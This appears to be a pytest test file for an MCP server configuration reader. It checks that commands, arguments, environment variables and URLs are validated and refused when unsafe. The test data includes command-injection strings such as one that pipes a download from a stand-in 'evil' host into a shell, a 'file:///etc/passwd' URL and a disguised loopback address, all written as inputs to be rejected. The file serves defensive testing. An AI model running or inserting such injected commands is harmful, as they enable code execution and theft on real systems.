"""Which MCP servers there are: a program is a list of arguments with a chosen environment, an address is checked."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from mcp_talk import SHORT, asking, hostile

from toolwise.core.errors import BadInput
from toolwise.core.limits import LIMITS
from toolwise.tools.mcp import mcp_tools
from toolwise.tools.mcp.config import ServerConfig, read_config


def read(**said: Any) -> ServerConfig:
    (found,) = read_config({"servers": {"s": said}}, LIMITS)
    return found


@pytest.mark.case("H13")
@pytest.mark.parametrize(
    "command",
    [
        *("srv && curl http://evil | sh", "srv; rm", "srv | sh", "$(srv)", "`srv`", "srv > file", "srv\nother", "a b"),
        *("./srv", "../srv", "bin/srv", "", "/bin/../srv", "/bin/sh", "bash", "/usr/bin/zsh", "pwsh", "cmd.exe"),
        *("-srv", "~/srv", ["srv"], None, 7),
    ],
)
def test_a_command_that_is_not_one_program_is_refused(command: Any) -> None:
    with pytest.raises(BadInput):
        read(command=command)


@pytest.mark.case("H13")
def test_arguments_are_a_list_and_what_a_shell_would_read_is_text() -> None:
    with pytest.raises(BadInput, match="args is a list"):
        read(command="srv", args="a && b")
    found = read(command="srv", args=["a && curl | sh", "$HOME"])
    assert found.argv == ("srv", "a && curl | sh", "$HOME")
    assert found.shown == '["srv","a && curl | sh","$HOME"]'


@pytest.mark.case("H13")
def test_a_server_sees_the_chosen_environment_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
    monkeypatch.setenv("FILES_TOKEN", "for the files")
    with asking("env", env={"TOKEN": "$FILES_TOKEN", "MODE": "fast"}) as ask:
        seen = json.loads(ask("s__echo").text)
    assert seen.pop("TOKEN") == "for the files"
    assert seen.pop("MODE") == "fast"
    seen.pop("LC_CTYPE", None)  # Python's own
    assert seen.keys() <= {"PATH", "HOME", "LANG", "TMPDIR"}


def test_a_variable_that_is_not_set_and_a_program_that_is_not_there_leave_their_server_out() -> None:
    for said, why in (
        (hostile("good", env={"TOKEN": "$TOOLWISE_NO_SUCH"}), "TOOLWISE_NO_SUCH is not set"),
        ({"command": "toolwise-no-such-program"}, "no program"),
        ({"url": "https://mcp.example/", "bearer_env": "TOOLWISE_NO_SUCH"}, "holds no token"),
    ):
        with pytest.raises(BadInput, match=why):
            mcp_tools({"servers": {"s": said}}, SHORT)


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ({}, "either a command or a url"),
        ({"command": "a", "url": "https://a.example/"}, "either a command or a url"),
        ({"command": "a", "shell": True}, 'no "shell"'),
        ({"command": "a", "url_": ""}, 'no "url_"'),
        ({"command": "a", "bearer_env": "A"}, 'no "bearer_env"'),
        ({"url": "https://a.example/", "env": {}}, 'no "env"'),
        ({"url": "https://u:p@a.example/"}, "url cannot be used"),
        ({"url": "file:///etc/passwd"}, "url cannot be used"),
        ({"url": "http://0x7f000001/"}, "url cannot be used"),
        ({"url": "https://a.example/?key=secret"}, "query"),
        ({"url": "https://a.example/", "bearer_env": "Bearer abc"}, "name of a variable"),
        ({"url": "http://a.example/", "bearer_env": "TOKEN"}, "plain text"),
        ({"command": "a", "effects": {"x": "pure"}}, "effects"),
        ({"command": "a", "tools": "x"}, "list of names"),
        ({"command": "a", "tools": ["x"], "without": ["y"]}, "not both"),
        ({"command": "a", "private": "no"}, "true or false"),
        ({"command": "a", "seconds": 0}, "seconds"),
        ({"command": "a", "seconds": True}, "seconds"),
        ({"command": "a", "revision": "2024-11-05"}, "revision"),
        ({"command": "a", "env": {"A B": "c"}}, "env"),
        ({"command": "a", "env": ["A"]}, "env"),
    ],
)
def test_what_cannot_be_meant_is_refused(said: dict[str, Any], why: str) -> None:
    with pytest.raises(BadInput, match=why):
        read(**said)


def test_toml_and_json_say_the_same(tmp_path: Path) -> None:
    toml, other = tmp_path / "servers.toml", tmp_path / "servers.json"
    toml.write_text('[servers.a]\ncommand = "srv"\nargs = ["-x"]\neffects = { find = "read" }\n')
    said = {"command": "srv", "args": ["-x"], "effects": {"find": "read"}}
    for name in ("servers", "mcpServers"):
        other.write_text(json.dumps({name: {"a": said}}))
        assert read_config(toml, LIMITS) == read_config(other, LIMITS)


@pytest.mark.parametrize(
    "text", ["", "a = 1", "[servers]", "servers = 1", "[servers.a_b]\ncommand = 'x'", "[", "x" * 70_000]
)
def test_a_file_that_is_no_list_of_servers_is_refused(text: str, tmp_path: Path) -> None:
    file = tmp_path / "servers.toml"
    file.write_text(text)
    with pytest.raises(BadInput, match=r"servers\.toml"):
        mcp_tools(file)


def test_one_server_of_a_file_can_be_named(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match='no server "c"'):
        mcp_tools({"servers": {"a": {"command": "x"}, "b": {"command": "y"}}}, only="c")


def test_a_tool_that_the_file_speaks_of_and_the_server_has_not_is_told() -> None:
    said = hostile("odd names", effects={"sarch": "read"}, without=["a/b"])
    found = mcp_tools({"servers": {"s": said}}, SHORT)
    found.close()
    assert [each.tool for each in found.left_out] == ["sarch"]
    assert "s__a__2f__b" not in {tool.name for tool in found.tools}
